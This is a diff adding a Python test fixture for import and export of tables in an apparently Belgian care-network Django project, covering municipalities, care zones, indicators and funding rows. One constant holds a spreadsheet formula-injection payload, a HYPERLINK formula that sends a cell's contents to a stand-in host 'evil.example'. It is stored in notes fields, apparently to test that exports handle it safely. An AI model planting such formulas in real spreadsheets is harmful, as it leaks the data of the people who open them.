@@ -1,0 +1,89 @@
+"""Tables to import and export: one or two rows in every table that has a resource, with the
+cells that used to break a round trip (empty cells, a formula, a phone number with a +)."""
+
+import datetime
+import io
+from decimal import Decimal
+
+import pytest
+import tablib
+
+from missions.models import (
+    ActivityCount,
+    Indicator,
+    IndicatorDirection,
+    IndicatorLevel,
+    IndicatorValue,
+    MissionTask,
+    SextupleAim,
+)
+from networks.models import Municipality, PrimaryCareZone
+from tests.missions.factories import PartnerTypeFactory, make_themes
+from tests.networks import factories as geo
+from tests.transition.factories import ActionLineFactory, FundingFactory
+from transition.models import CalendarEvent, FundingKind
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")'
+
+
+def csv_bytes(headers, rows) -> bytes:
+    dataset = tablib.Dataset(*rows, headers=headers)
+    return dataset.export("csv").encode("utf-8")
+
+
+def csv_dataset(headers, rows) -> tablib.Dataset:
+    return tablib.Dataset(*rows, headers=headers)
+
+
+def xlsx_bytes(dataset) -> bytes:
+    from import_export.formats.base_formats import XLSX
+
+    return XLSX().export_data(dataset)
+
+
+def upload(content: bytes, name: str):
+    file = io.BytesIO(content)
+    file.name = name
+    return file
+
+
+@pytest.fixture
+def every_table(network_a):
+    kempen = geo.RegionalCareZoneFactory(code="kempen", name="Kempen")
+    cluster = geo.PrimaryCareZoneFactory(code="antwerpen-en-rand", kind=PrimaryCareZone.Kind.ELZ_CLUSTER)
+    elz = geo.PrimaryCareZoneFactory(code="baldemore", name="Baldemore", parent=cluster)
+    mol = geo.MunicipalityFactory(nis_code="13025", name="Mol", notes=FORMULA)
+    geo.MunicipalityFactory(
+        nis_code="21004", name="Brussel", region=Municipality.Region.BRUSSELS, province=""
+    )
+    geo.MunicipalityFiguresFactory(municipality=mol, year=2026, aged_80_plus=None, deaths=None)
+    geo.RegionalCareZoneMembershipFactory(municipality=mol, zone=kempen)
+    geo.PrimaryCareZoneMembershipFactory(municipality=mol, zone=elz, valid_until=datetime.date(2030, 12, 31))
+    pn = geo.LegacyOrganisationFactory(code="pn-test", seat=mol, notes=FORMULA, phone="+32 14 00 00 00")
+    mbe = geo.LegacyOrganisationFactory(mbe=True, code="mbe-test", partner=pn)
+    pn.partner = mbe
+    pn.save()
+    pn.derived_regional_care_zones.add(kempen)
+    themes = make_themes()
+    MissionTask.objects.create(theme=themes[0], letter="a", description="Noden", description_en="Needs")
+    PartnerTypeFactory(code="huisartsen", name="Huisartsen", name_en="GPs")
+    SextupleAim.objects.create(number=1, code="gelijkheid", name="Gelijkheid", name_en="Equity")
+    by_zone = Indicator.objects.create(
+        code="kansarmoede", name="Kansarmoede", name_en="Deprivation", direction=IndicatorDirection.MORE_NEED
+    )
+    by_town = Indicator.objects.create(
+        code="mantelzorg",
+        name="Mantelzorg",
+        name_en="Informal care",
+        direction=IndicatorDirection.LESS_NEED,
+        level=IndicatorLevel.MUNICIPALITY,
+        weight=Decimal("0.5"),
+    )
+    IndicatorValue.objects.create(indicator=by_zone, zone=kempen, year=2025, value=Decimal("-4.25"))
+    IndicatorValue.objects.create(indicator=by_town, municipality=mol, year=2025, value=Decimal("12.5"))
+    ActivityCount.objects.create(network=network_a, municipality=mol, year=2025, count=3)
+    ActionLineFactory(number=1, work_form_note="")
+    CalendarEvent.objects.create(start=datetime.date(2027, 1, 1), when="1 januari 2027", title="Erkenning")
+    FundingFactory(network=network_a, note="")
+    FundingFactory(network=None, legacy_organisation=pn, kind=FundingKind.FORFAIT, amount=Decimal("1234.56"))
+    return {"kempen": kempen, "mol": mol, "pn": pn, "mbe": mbe}
